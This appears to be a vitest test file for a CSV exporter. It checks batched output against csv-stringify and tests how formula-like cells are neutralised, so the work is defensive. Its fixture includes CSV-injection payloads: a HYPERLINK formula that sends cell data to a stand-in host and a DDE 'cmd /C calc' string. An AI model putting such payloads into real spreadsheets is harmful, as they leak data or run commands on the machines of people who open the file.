// CSV is written a batch of rows at a time, text/number/NULL cells formatted by the writer and
// rarer values by csv-stringify; the text must be byte for byte what one csv-stringify call over
// all rows gives (with the writer's options), in every mode; and cells a spreadsheet would run as
// formulas are neutralised unless the mode is raw.
import { describe, it, expect } from 'vitest';
import { Writable } from 'node:stream';
import { stringify } from 'csv-stringify/sync';
import { writeRows } from '../../src/export/index.ts';
import { csvOptions, CSV_MODES, type CsvMode } from '../../src/export/format.ts';
import type { RowStream } from '../../src/store/query.ts';
import { readCsv } from './csv-read.ts';

const TRICKY: unknown[] = [
  'Thành ủy "Hà Nội"', 'dòng\nmới', '=SUM(A1:A9)', '-5', '+84 912', '@người', 'a,b;c', '', null, 0, -1.5, 93.2, 1e21, 12345678901234567890n,
  new Uint8Array([0, 1, 254, 255]), Buffer.from('xin chào'), '\ttab', 'cuối\r\n', '😀 emoji', 'lone\rcr', 'ends cr\r', true, false,
  '＝fullwidth', '＋84', '－5', '＠user', -0, Number.NaN, Infinity, -7,
];

function rows(count: number): unknown[][] {
  return Array.from({ length: count }, (_, i) => [i, TRICKY[i % TRICKY.length], TRICKY[(i * 7) % TRICKY.length], `dòng ${i}`]);
}

/** Deterministic generated cells: text made of the characters CSV treats specially, and numbers. */
function generatedRows(count: number, seed: number): unknown[][] {
  let state = seed;
  const next = () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return state / 2147483648;
  };
  const alphabet = ['a', 'ể', ' ', ',', '"', '\n', '\r', '=', '+', '-', '@', '\t', ';', "'", '＝', '😀'];
  const cell = (): unknown => {
    const kind = next();
    if (kind < 0.1) return null;
    if (kind < 0.25) return Math.round((next() - 0.5) * 1e6) / 100;
    if (kind < 0.3) return Math.floor((next() - 0.5) * 1e9);
    let text = '';
    const length = Math.floor(next() * 6);
    for (let i = 0; i < length; i++) text += alphabet[Math.floor(next() * alphabet.length)];
    return text;
  };
  return Array.from({ length: count }, () => Array.from({ length: 1 + Math.floor(next() * 5) }, cell));
}

async function csv(data: unknown[][], mode: CsvMode, columns = ['id', 'a', 'b', 'c']): Promise<{ text: string; rows: number }> {
  const chunks: Buffer[] = [];
  const out = new Writable({ write(chunk, _enc, done) { chunks.push(Buffer.from(chunk)); done(); } });
  const source: RowStream = { columns, rows: [][Symbol.iterator](), arrays: () => data[Symbol.iterator]() };
  const summary = await writeRows(source, { format: 'csv', csv: mode, stdout: out, progress: false });
  return { text: Buffer.concat(chunks).toString('utf8'), rows: summary.rows };
}

/** What csv-stringify itself writes with the writer's options (its general path for every cell). */
function expected(data: unknown[][], mode: CsvMode, columns = ['id', 'a', 'b', 'c']): string {
  return stringify([columns, ...data], { ...csvOptions(mode), bom: mode === 'excel' });
}

describe('CSV in batches', () => {
  it('writes the same text as one csv-stringify call, in every mode', async () => {
    const data = rows(5_000);
    for (const mode of CSV_MODES) {
      const { text, rows: written } = await csv(data, mode);
      expect(written).toBe(data.length);
      const want = expected(data, mode);
      expect(text.length).toBe(want.length);
      expect(text === want).toBe(true);
    }
  });

  it('matches csv-stringify cell for cell on generated text full of quotes, commas, line breaks and formula starts', async () => {
    for (const [seed, mode] of [[1, 'safe'], [2, 'excel'], [3, 'raw'], [4, 'safe']] as const) {
      const data = generatedRows(3_000, seed);
      // rows of uneven width, as csv-stringify takes them; the header has the widest
      const columns = ['a', 'b', 'c', 'd', 'e'];
      const { text } = await csv(data, mode, columns);
      const want = expected(data, mode, columns);
      // on a difference, show the text around it rather than two long strings
      let at = 0;
      while (at < want.length && text.charCodeAt(at) === want.charCodeAt(at)) at++;
      expect(JSON.stringify(text.slice(Math.max(0, at - 20), at + 20))).toBe(JSON.stringify(want.slice(Math.max(0, at - 20), at + 20)));
      expect(text === want).toBe(true);
    }
  });

  it('quotes a cell with a line break in either mode, so every row reads back whole', async () => {
    const data = [[1, 'dòng một\ndòng hai'], [2, 'CR\rgiữa'], [3, 'cuối\r'], [4, 'thường']];
    for (const mode of CSV_MODES) {
      const { text } = await csv(data, mode, ['id', 'text']);
      const records = readCsv(mode === 'excel' ? text.slice(1) : text);
      expect(records.slice(1)).toEqual(data.map(([id, t]) => [String(id), t]));
      expect(text).toContain('"dòng một\ndòng hai"');
      expect(text).toContain('"CR\rgiữa"');
    }
  });

  // Each cell as stored, and as a spreadsheet must get it by default: a ' before what it would run as a
  // formula (= + - @ tab CR and their full-width forms), plain decimal numbers left as numbers.
  const FORMULA_CELLS: [stored: unknown, safe: string][] = [
    ['=1+1', "'=1+1"], ['=HYPERLINK("http://x.example/?"&A1,"bấm")', `'=HYPERLINK("http://x.example/?"&A1,"bấm")`],
    ['+84 912', "'+84 912"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\r=1', "'\r=1"], ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['＝1', "'＝1"], ['＋1', "'＋1"], ['－1', "'－1"], ['＠a', "'＠a"], ['-0,5%', "'-0,5%"], ['-', "'-"], ['+', "'+"],
    // numbers, as numbers or as text: not formulas
    [-5, '-5'], [-0.25, '-0.25'], ['-5', '-5'], ['+84912', '+84912'], ['-1.5', '-1.5'], ['-1.5e3', '-1.5e3'], ['-.5', '-.5'],
    // text that merely contains the characters
    ['a=b', 'a=b'], ['Thành ủy', 'Thành ủy'], ["'=already", "'=already"], ['', ''],
  ];

  it.each(CSV_MODES)('%s mode: formula cells neutralised unless raw, numbers untouched', async (mode) => {
    const data = [FORMULA_CELLS.map(([stored]) => stored)];
    const columns = FORMULA_CELLS.map((_, i) => `c${i}`);
    const { text } = await csv(data, mode, columns);
    const cells = readCsv(mode === 'excel' ? text.slice(1) : text)[1];
    expect(cells).toEqual(FORMULA_CELLS.map(([stored, safe]) => (mode === 'raw' ? String(stored) : safe)));
  });

  it('neutralises a blob whose base64 starts with +', async () => {
    const blob = new Uint8Array([0xfb, 0xef, 0xff]); // base64 "++//"
    const { text } = await csv([[1, blob]], 'safe', ['id', 'raw']);
    expect(readCsv(text)[1]).toEqual(['1', "'++//"]);
  });
});
